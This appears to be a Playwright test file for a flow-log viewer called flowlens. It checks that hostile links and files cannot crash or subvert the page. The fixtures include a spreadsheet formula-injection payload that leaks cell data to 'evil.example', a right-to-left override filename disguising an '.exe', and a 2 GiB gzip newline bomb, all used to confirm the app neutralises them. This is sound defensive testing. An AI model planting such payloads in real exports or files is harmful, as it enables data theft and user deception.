// Hostile links and files (issue 9): nothing a stranger sends can kill the session,
// freeze the page, smuggle a formula into a CSV or hide characters.
import fs from 'node:fs';
import path from 'node:path';
import { spawn } from 'node:child_process';
import zlib from 'node:zlib';
import { assert, eq, gen, DIST } from './harness.mjs';

const L = (iface, extra = '') => `2 123456789012 ${iface} 10.0.1.5 10.0.2.6 443 49152 6 10 840 1764115200 1764115260 ACCEPT OK${extra}`;

async function csvDownload(t) {
  await t.page.click('#export-btn');
  const [dl] = await Promise.all([t.page.waitForEvent('download'), t.page.click('[data-export="csv"]')]);
  return fs.readFileSync(await dl.path(), 'utf8');
}

export function hostile(test) {
  test('a link of 100,000 "!" neither kills the session nor the table', async (t) => {
    // 100,001 "!" (odd): not (action = REJECT); it used to overflow the wasm stack.
    await t.open(`#f=${'!'.repeat(100_001)}action%20%3D%20REJECT`);
    await t.page.click('#sample-btn');
    await t.waitStatus(/^3,345 of 4,997 records$/);
    // The same from outside, without a reload (as window.open + location.hash would).
    await t.page.evaluate(() => { location.hash = `#f=${'!'.repeat(100_000)}action%20%3D%20REJECT`; });
    await t.waitStatus(/^1,652 of 4,997 records$/);
    await t.typeFilter('dstport = 22');
    await t.waitStatus(/^[\d,]+ of 4,997 records$/);
    const n = await t.page.evaluate(() => globalThis.flowlens.viewCount);
    assert(n > 0 && n < 4997, `the table still answers: ${n}`);
    await t.shot('h1-deep-link-survived');
  });

  test('a trap inside the wasm module: the page restarts it and decodes the data again', async (t) => {
    t.allowProblems = [/unreachable|recursive use of an object|out of bounds|call stack/];
    await t.open();
    await t.page.click('#sample-btn');
    await t.waitStatus(/^4,997 of 4,997 records$/);
    await t.typeFilter('action = REJECT');
    await t.waitStatus(/^1,652 of 4,997 records$/);
    const trapped = await t.page.evaluate(() => globalThis.flowlens.simulateTrap());
    assert(/RuntimeError|unreachable|out of bounds|call stack/i.test(trapped), `the hook trapped: ${trapped}`);
    // The next query (here from a link) meets the poisoned table: the page restarts the
    // module, decodes the sample again and drops the view that failed.
    await t.page.evaluate(() => { location.hash = '#f=dstport%20%3D%2022'; });
    await t.page.waitForFunction(() => /restarted and the data decoded again/.test(document.getElementById('notice-text').textContent), null, { timeout: 30000 });
    await t.waitStatus(/^4,997 of 4,997 records$/);
    eq(await t.page.inputValue('#filter'), '', 'the failed view is dropped');
    await t.typeFilter('action = REJECT');
    await t.waitStatus(/^1,652 of 4,997 records$/);
    await t.shot('h0-trap-recovered');
  });

  test('a link with an impossible time window or a bad filter gets a calm message', async (t) => {
    await t.open('#t=0..9000000000000');
    const msg = await t.page.textContent('#notice-text');
    assert(/Ignored part of the link: its time window/.test(msg), `notice: ${msg}`);
    await t.page.click('#sample-btn');
    await t.waitStatus(/^4,997 of 4,997 records$/);
    await t.typeFilter('action = REJECT');
    await t.waitStatus(/^1,652 of 4,997 records$/);

    await t.open('#f=dstprt%20%3D%2022');
    await t.page.click('#sample-btn');
    // (the link's filter is first applied to the sample already shown: 1,652 of 4,997)
    const st = await t.waitStatus(/^4,997 of 4,997 records · the filter has an error/);
    assert(!/Decoding/.test(st), `status after decoding: ${st}`);
    assert(/\(all records are shown, unfiltered\)$/.test(st), `the status says which view is shown: ${st}`);
    assert(/did you mean 'dstport'/.test(await t.page.textContent('#filter-error')), 'the error is shown');
    // the view the status counts is on screen: the new data's records, unfiltered
    eq(await t.page.getAttribute('[role=grid]', 'aria-rowcount'), '4998', 'the grid holds the unfiltered view');
    const actions = await t.column('action');
    assert(actions && actions.length > 5 && actions.every((a) => /ACCEPT|REJECT|^-$/.test(a)), `rows shown: ${actions?.slice(0, 4)}`);
    await t.shot('h2-bad-filter-link');
  });

  test('filtering on a field the data lacks says the field is absent', async (t) => {
    await t.open();
    await t.page.click('#sample-btn');
    await t.waitStatus(/^4,997 of/);
    await t.typeFilter('tgw-id = tgw-0a1b');
    const st = await t.waitStatus(/no field tgw-id/);
    assert(/^0 of 4,997 records/.test(st), st);
    assert(/this data has no field tgw-id/.test(await t.page.textContent('#empty-view')), 'empty view says why');
  });

  test('CSV download neutralises formulas; odd characters are shown escaped; cells cut, details whole', async (t) => {
    const file = path.join(t.fx.dir, 'hostile.log');
    const long = `eni-${'a'.repeat(5000)}`;
    fs.writeFileSync(file, [
      L('=HYPERLINK("http://evil.example/?leak="&A2,"Click")'),
      L('eni-\u202egnp.exe'),
      L('-1'),
      L(long),
    ].join('\n') + '\n');
    await t.open();
    await t.upload(file);
    await t.loaded(4);
    const csv = await csvDownload(t);
    assert(csv.includes('"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"'), `formula neutralised: ${csv.slice(0, 400)}`);
    assert(csv.includes(",'-1,"), 'text -1 prefixed');
    assert(!/,=HYPERLINK/.test(csv), 'no live formula');
    const ifaces = await t.column('interface-id');
    assert(ifaces.includes('eni-\\u{202e}gnp.exe'), `bidi override shown escaped: ${ifaces}`);
    const cut = ifaces.find((v) => v.startsWith('eni-aaa'));
    eq(cut.length, 257, 'a long value is cut in the grid');
    assert(cut.endsWith('…'), 'and says so');
    // Click-to-filter on the escaped cell filters on the stored value.
    await t.page.click('.grid-layer .grid-cell:has-text("gnp.exe") .v');
    await t.waitStatus(/^1 of 4 records$/);
    // The detail panel has the whole value.
    await t.typeFilter('interface-id ~ aaaa');
    await t.waitStatus(/^1 of 4 records$/);
    await t.page.click('.grid-layer .grid-row');
    await t.page.keyboard.press('Enter');
    await t.page.waitForSelector('#detail[open]');
    const d = await t.page.textContent('#detail-body');
    assert(d.includes(long), 'detail shows the full value');
    await t.shot('h3-escaped-and-cut');
  });

  test('click-to-filter on a v11 tag cell matches its stored (percent-encoded) value', async (t) => {
    const file = path.join(t.fx.dir, 'tags.log');
    fs.writeFileSync(file, [
      'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status interface-tag',
      L('eni-1', ' Name=web%20server'),
      L('eni-2', ' Name=db'),
    ].join('\n') + '\n');
    await t.open();
    await t.upload(file);
    await t.loaded(2);
    const tags = await t.column('interface-tag');
    assert(tags.some((v) => v.startsWith('Name=web server')), `tag decoded for display: ${tags}`);
    await t.page.click('.grid-layer .grid-cell:has-text("web server") .v');
    await t.waitStatus(/^1 of 2 records$/);
    assert(/Name=web%20server/.test(await t.page.inputValue('#filter')), 'filter on the stored text');
  });

  test('Cancel during a gzip newline bomb (2 GiB inflated from 2 MB) stops it mid-file', async (t) => {
    const file = path.join(t.fx.dir, 'newline-bomb.log.gz');
    if (!fs.existsSync(file)) {
      const member = zlib.gzipSync(Buffer.alloc(1 << 20, 10)); // a MiB of newlines
      fs.writeFileSync(file, Buffer.concat([zlib.gzipSync(Buffer.from(`${L('eni-first')}\n`)), ...Array(2048).fill(member)]));
    }
    await t.open();
    await t.upload(file);
    await t.page.waitForSelector('#progress:not([hidden])');
    await t.sleep(300);
    await t.page.click('#cancel-btn');
    await t.page.waitForSelector('#progress', { state: 'hidden', timeout: 10000 });
    const note = await t.page.textContent('#notice-text');
    assert(/^Cancelled after/.test(note), `cancelled: ${note}`);
    eq(await t.page.evaluate(() => window.flowlens.busy), false, 'not busy');
    await t.page.click('#sample-btn');
    await t.waitStatus(/^4,997 of 4,997 records$/);
  });

  test('a small memory budget is worded as such', async (t) => {
    const file = gen(path.join(t.fx.dir, 'mem2.log'), ['-n', '60000', '--seed', '11']);
    await t.open();
    await t.page.evaluate(() => { globalThis.FLOWLENS_MEMORY_BUDGET = 300_000; });
    await t.upload(file);
    await t.page.waitForSelector('#notice:not([hidden])');
    const msg = await t.page.textContent('#notice-text');
    assert(/memory budget of 300 KB\./.test(msg), `budget message: ${msg}`);
    assert(!/browser tab can hold/.test(msg), 'no tab-size claim for a small budget');
  });

  test('the icon is not re-requested on view changes', async (t) => {
    await t.open();
    await t.page.click('#sample-btn');
    await t.waitStatus(/^4,997 of/);
    for (const f of ['action = REJECT', 'dstport = 22', 'protocol = udp', '']) await t.typeFilter(f);
    const icons = t.requests.filter((u) => /icon\.svg/.test(u));
    eq(icons.length, 0, 'icon requests');
  });

  test('single file: CSP without \'self\', trusted types, history not persisted', async (t) => {
    t.allowFile = true;
    await t.page.goto(`file://${path.join(DIST, 'flowlens.html')}`);
    await t.page.waitForSelector('html[data-ready="yes"]', { timeout: 20000 });
    const csp = await t.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    assert(!/'self'/.test(csp), `no 'self' from file://: ${csp}`);
    assert(/require-trusted-types-for 'script'/.test(csp) && /default-src 'none'/.test(csp) && /script-src [^;]*'sha256-/.test(csp), `CSP: ${csp}`);
    await t.page.click('#sample-btn');
    await t.waitStatus(/^4,997 of/);
    await t.typeFilter('action = REJECT');
    await t.page.keyboard.press('Enter');
    await t.waitStatus(/^1,652 of/);
    eq(await t.page.evaluate(() => localStorage.getItem('flowlens.filterHistory')), null, 'no history in file:// storage');
  });

  test('serve.mjs sends the CSP and COOP headers', async (t) => {
    const port = 20000 + (process.pid % 20000);
    const child = spawn(process.execPath, [path.join(path.dirname(new URL(import.meta.url).pathname), '..', '..', 'scripts', 'serve.mjs'), DIST, '--port', String(port)], { stdio: 'ignore' });
    try {
      let res;
      for (let i = 0; i < 50 && !res; i++) {
        try { res = await fetch(`http://127.0.0.1:${port}/`); } catch { await t.sleep(100); }
      }
      assert(res && res.ok, 'server answers');
      const csp = res.headers.get('content-security-policy') || '';
      assert(/connect-src 'self'/.test(csp) && /frame-ancestors 'none'/.test(csp) && /require-trusted-types-for/.test(csp), `CSP header: ${csp}`);
      eq(res.headers.get('cross-origin-opener-policy'), 'same-origin', 'COOP');
    } finally {
      child.kill();
    }
  });
}
